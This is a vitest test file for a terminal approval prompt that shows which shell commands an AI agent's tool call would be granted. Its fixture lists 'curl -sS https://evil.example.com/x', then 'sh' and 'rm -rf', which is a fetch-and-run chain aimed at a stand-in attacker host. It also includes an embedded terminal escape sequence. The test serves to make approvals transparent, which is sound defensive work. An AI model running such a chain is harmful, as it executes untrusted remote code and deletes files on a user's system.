import { describe, expect, test } from 'vitest'
import type { ApprovalId, ApprovalRequest, ItemId } from '../../../contracts/index.ts'
import { plainPaint } from '../../terminal/paint.ts'
import { widthOf } from '../../terminal/text-width.ts'
import { choiceLines } from './choice-lines.ts'

const asks = (labels: readonly string[], wider: readonly string[] = [], input: ApprovalRequest['input'] = {}): ApprovalRequest => ({
  id: 'a' as ApprovalId,
  itemId: 't1.s1.1' as ItemId,
  agentPath: 'root',
  scope: 'call',
  tool: 'shell',
  summary: 'Run it',
  input,
  keys: labels.map((label) => ({ key: `command:${label}`, label })),
  wider: wider.map((label) => ({ key: `wider:${label}`, label })),
})
/** Without the first line, or the first two: what is granted. */
const granted = (request: ApprovalRequest, width: number): string => {
  const lines = choiceLines(request, { paint: plainPaint, width })
  return `\n${lines.slice(lines.findIndex((line) => line.startsWith('  s'))).join('\n')}\n`
}

const chain = [
  'npm run build --workspace packages/application',
  'node scripts/generate-something.mjs --output dist',
  'curl -sS https://evil.example.com/x',
  'sh',
  'rm -rf ./dist-old',
]
const host = 'of-another-very-long-subdomain.and-more.of-that.example.com'
const hosts = asks([`deep.${host}:8443`], [`${host} and everything below it`, 'any call of web_fetch'])

describe('what s and p would grant is shown whole', () => {
  test('a chain, key by key', () => {
    expect(granted(asks(chain, ['any call of shell']), 79)).toMatchInlineSnapshot(`
      "
        s for this session, p for this project:
          │ npm run build --workspace packages/application
          │ node scripts/generate-something.mjs --output dist
          │ curl -sS https://evil.example.com/x
          │ sh
          │ rm -rf ./dist-old
        s1 p1 any call of shell
      "
    `)
    expect(granted(asks(chain, ['any call of shell']), 39)).toMatchInlineSnapshot(`
      "
        s for this session,
        p for this project:
          │ npm run build --workspace packa
          │   ges/application
          │ node scripts/generate-something
          │   .mjs --output dist
          │ curl -sS https://evil.example.c
          │   om/x
          │ sh
          │ rm -rf ./dist-old
        s1 p1 any call of shell
      "
    `)
  })

  test('a host, and broader choices', () => {
    expect(granted(hosts, 79)).toMatchInlineSnapshot(`
      "
        s for this session, p for this project:
          │ deep.of-another-very-long-subdomain.and-more.of-that.example.com:8443
        s1 p1 │ of-another-very-long-subdomain.and-more.of-that.example.com and eve
              │   rything below it
        s2 p2 any call of web_fetch
      "
    `)
    expect(granted(hosts, 39)).toMatchInlineSnapshot(`
      "
        s for this session,
        p for this project:
          │ deep.of-another-very-long-subdo
          │   main.and-more.of-that.example.c
          │   om:8443
        s1 p1 │ of-another-very-long-subdom
              │   ain.and-more.of-that.exampl
              │   e.com and everything below
              │   it
        s2 p2 any call of web_fetch
      "
    `)
  })

  test('short ones share their lines', () => {
    expect(granted(asks(['npm test', 'tail -5'], ['any npm test …', 'any call of shell']), 79)).toMatchInlineSnapshot(`
      "
        s for this session, p for this project: npm test, tail -5
        s1 p1 any npm test … · s2 p2 any call of shell
      "
    `)
    expect(granted(asks(['src/add.js'], ['any file in src/']), 39)).toMatchInlineSnapshot(`
      "
        s for this session,
        p for this project:
          │ src/add.js
        s1 p1 any file in src/
      "
    `)
  })

  test('an ambiguous key gets its own line, and invisible characters are shown by their code', () => {
    expect(granted(asks(['echo a, b', 'sh'], ['any echo · s1 p1 nothing', 'two\nlines\u001b[2J']), 79)).toMatchInlineSnapshot(`
      "
        s for this session, p for this project:
          │ echo a, b
          │ sh
        s1 p1 │ any echo · s1 p1 nothing
        s2 p2 │ two
              │   lines<U+001B>[2J
      "
    `)
  })

  test('a long argument that is shown above is named, not repeated; the rest is complete', () => {
    const command = Array.from({ length: 40 }, (_, n) => `echo line ${n}`).join('\n')
    expect(granted(asks([`exactly this: ${command} in sub/`], [], { command, cwd: 'sub/' }), 79)).toMatchInlineSnapshot(`
      "
        s for this session, p for this project:
          │ exactly this: (all of command, as above) in sub/
      "
    `)
    expect(granted(asks([`exactly this: ${command}`], [], { other: 'x' }), 79)).toContain('echo line 39')
  })
})

describe.each([24, 39, 60, 79, 140])('in %d columns', (width) => {
  test.each([
    ['a chain', asks(chain, ['any call of shell'])],
    ['hosts', hosts],
    ['wide characters', asks(['日本語 '.repeat(9).trim()], ['any file in 日本語日本語日本語日本語/'])],
  ])('%s: nothing is lost and no line is wider', (_name, request) => {
    const lines = choiceLines(request, { paint: plainPaint, width })
    for (const line of lines) expect(widthOf(line), line).toBeLessThanOrEqual(width)
    const text = lines.join('').replace(/[\s│]/g, '')
    for (const { label } of [...request.keys, ...(request.wider ?? [])]) expect(text).toContain(label.replace(/\s/g, ''))
  })
})
